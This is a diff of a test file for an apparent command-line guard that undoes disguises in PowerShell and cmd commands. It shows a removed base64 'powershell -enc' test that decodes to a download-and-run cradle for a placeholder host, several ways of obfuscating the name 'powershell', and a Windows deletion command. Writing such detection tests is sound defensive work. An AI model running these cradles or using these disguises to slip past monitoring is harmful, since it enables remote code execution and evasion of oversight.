@@ -1,17 +1,8 @@
-"""Lines for PowerShell and cmd, without what hides their words."""
+"""Commands for PowerShell and cmd, with their disguises undone."""
 
 import pytest
 
 from pipeguard.core.commands.powershell import MAX_LINE, is_windows, windows_lines
-
-
-def lines(text: str) -> list[str]:
-    return [line for line, _ in windows_lines(text)]
-
-
-def test_a_command_for_powershell_in_base64() -> None:
-    encoded = "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AZQB4AGEAbQBwAGwAZQApAA=="
-    assert ("PS iex iwr http://x.example", "") in list(windows_lines(f"powershell -enc {encoded}"))
 
 
 @pytest.mark.parametrize(
@@ -20,37 +11,41 @@ def test_a_command_for_powershell_in_base64() -> None:
         "p`owershell x",
         "& ('power' + 'shell') x",
         "& ('{1}{0}' -f 'shell','power') x",
-        "& (-join ('power','shell')) x",
-        "& ('pXwershell'.replace('X', 'o')) x",
-        "& ('pXwershell' -replace 'X', 'o') x",
         "& ([char]112 + 'owershell') x",
-        "& ([char[]](112,111,119,101,114,115,104,101,108,108)) x",
+        "& ([char]0x70 + 'owershell') x",
         "$a = 'power'; & ($a + 'shell') x",
         "set a=power&& %a%shell x",
     ],
 )
 def test_a_name_that_is_put_together_is_one_word(text: str) -> None:
-    assert "PS powershell x" in lines(text)
+    assert "PS powershell x" in windows_lines(text)
 
 
 def test_a_part_of_a_variable_of_cmd_is_read() -> None:
-    assert lines("%comspec:~0,1%md")[0].endswith("Cmd")
-    assert lines("del %windir%\\x") == ["PS del C:\\Windows\\x"]
+    assert windows_lines("%comspec:~0,1%md")[0].endswith("Cmd")
+    assert windows_lines("del %windir%\\x") == ["PS del C:\\Windows\\x"]
 
 
 def test_each_command_of_a_line_has_a_line() -> None:
-    assert lines("dir & del x && echo y\ncls") == ["PS dir", "PS del x", "PS echo y", "PS cls"]
+    assert windows_lines("dir & del x && echo y\ncls") == [
+        "PS dir",
+        "PS del x",
+        "PS echo y",
+        "PS cls",
+    ]
 
 
 def test_what_is_longer_than_a_line_is_cut() -> None:
-    assert [len(line) for line in lines("echo " + "a" * 2 * MAX_LINE)] == [MAX_LINE + len("PS ")]
+    assert [len(line) for line in windows_lines("echo " + "a" * 2 * MAX_LINE)] == [
+        MAX_LINE + len("PS ")
+    ]
 
 
 @pytest.mark.parametrize("text", ["powershell -c x", "Invoke-WebRequest h", "cmd /c dir"])
-def test_a_line_for_windows_is_told_by_its_words(text: str) -> None:
+def test_a_text_for_windows_has_words_of_its_own(text: str) -> None:
     assert is_windows(text)
 
 
 @pytest.mark.parametrize("text", ["", "ls -la /tmp", "git commit -m done"])
-def test_a_line_for_another_system_is_not(text: str) -> None:
+def test_a_text_for_another_system_has_none(text: str) -> None:
     assert not is_windows(text)
